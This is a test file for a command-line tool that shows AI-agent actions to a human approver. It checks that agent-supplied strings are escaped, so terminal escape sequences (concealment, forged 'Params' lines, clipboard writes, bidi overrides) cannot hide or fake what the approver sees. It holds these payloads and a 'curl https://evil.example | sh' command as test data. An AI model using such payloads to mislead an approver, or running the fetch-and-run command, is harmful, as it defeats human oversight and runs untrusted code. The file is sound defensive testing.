// An agent chooses the strings an approver's terminal shows (agent_id, tool, operation, the error it reports). The
// human output must show them as text: no escape sequence of theirs may reach the terminal (ESC[8m would conceal the
// real params under fake ones written before it) and no newline of theirs may forge a line.
import type { Action } from '@faramesh/policy-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { cli, json, start, startTestGateway, waitForOutput, exited, type TestGateway } from './helpers.js'

let gw: TestGateway
let pending: Action
let odd: Action
let failed: Action

// A fake params line, then "conceal" (SGR 8) so the real params line below it would not show; C1 CSI and a bidi
// override for good measure.
const FORGED = 'run\nParams:         {"cmd": "ls -la"}\u001b[8m'
const TOOL = 'shell\u009b2J\u202e'
const ERROR = 'done\r\u001b]52;c;ZWNobyBwd25lZA==\u0007'

/** Every ESC in `text` starts one of the colour sequences paint() writes. */
function onlyOwnEscapes(text: string): boolean {
  return text.replace(/\u001b\[(?:1|2|22|31|32|33|34|35|36|39|90)m/g, '').match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/) === null
}

beforeAll(async () => {
  gw = await startTestGateway()
  pending = await gw.submit({ agent_id: 'bot\u001b[2K', tool: 'shell', operation: FORGED, params: { cmd: 'curl https://evil.example | sh' } })
  expect(pending.status).toBe('pending_approval')
  odd = await gw.submit({ tool: TOOL, operation: 'x', params: {} })
  const allowed = await gw.submit({ tool: 'http', operation: 'get', params: { url: 'https://example.com' } })
  const res = await fetch(`${gw.url}/v1/actions/${allowed.id}/result`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ success: false, error: ERROR }),
  })
  expect(res.status).toBe(200)
  failed = (await res.json()) as Action
})

afterAll(async () => {
  await gw?.close()
})

describe("an agent's strings on the approver's terminal", () => {
  for (const color of ['0', '1']) {
    it(`get shows the operation on one line, escaped, and the real params visibly (FORCE_COLOR=${color})`, async () => {
      const r = await cli(['get', pending.id], { env: { ...gw.env, FORCE_COLOR: color } })
      expect(r.code).toBe(0)
      expect(onlyOwnEscapes(r.stdout)).toBe(true)
      expect(r.stdout.match(/^\S*Params:/gm)).toHaveLength(1)
      expect(r.stdout).toContain('run\\nParams:         {"cmd": "ls -la"}\\u001b[8m')
      expect(r.stdout).toContain('curl https://evil.example | sh')
      expect(r.stdout).toContain('bot\\u001b[2K')
    })
  }

  it('get shows C1 controls and bidi overrides escaped', async () => {
    const r = await cli(['get', odd.id], { env: { ...gw.env, FORCE_COLOR: '1' } })
    expect(r.code).toBe(0)
    expect(onlyOwnEscapes(r.stdout)).toBe(true)
    expect(r.stdout).toContain('shell\\u009b2J\\u202e')
  })

  it('get shows a reported error escaped', async () => {
    const r = await cli(['get', failed.id], { env: { ...gw.env, FORCE_COLOR: '1' } })
    expect(r.code).toBe(0)
    expect(onlyOwnEscapes(r.stdout)).toBe(true)
    expect(r.stdout).toContain('done\\r\\u001b]52;c;ZWNobyBwd25lZA==\\u0007')
  })

  it('list, logs, events and explain print no escape sequence of the agent', async () => {
    for (const args of [['list'], ['logs', failed.id], ['events', pending.id], ['explain', pending.id], ['logs', pending.id]]) {
      const r = await cli(args, { env: { ...gw.env, FORCE_COLOR: '1' } })
      expect(r.code, args.join(' ')).toBe(0)
      expect(onlyOwnEscapes(r.stdout), `${args.join(' ')}:\n${JSON.stringify(r.stdout)}`).toBe(true)
    }
  })

  it('tail prints each event on one line', async () => {
    const child = start(['tail', '--count', '2'], { env: { ...gw.env, FORCE_COLOR: '1' } })
    let out = await waitForOutput(child.stdout, /Streaming actions/)
    child.stdout?.on('data', (d: Buffer) => (out += d.toString()))
    await gw.submit({ tool: 'shell', operation: FORGED, params: { cmd: 'id' } })
    expect(await exited(child)).toBe(0)
    expect(onlyOwnEscapes(out)).toBe(true)
    expect(out).not.toMatch(/^Params:/m)
  })

  it('--json keeps the exact strings, with the characters JSON.stringify leaves raw escaped', async () => {
    for (const [action, tool] of [[pending, 'shell'], [odd, TOOL]] as const) {
      const r = await cli(['get', action.id, '--json'], { env: gw.env })
      expect(r.code).toBe(0)
      expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/)
      const a = json<Action>(r)
      expect([a.tool, a.operation, a.agent_id]).toEqual([tool, action.operation, action.agent_id])
    }
    expect(pending.operation).toBe(FORGED)
  })
})
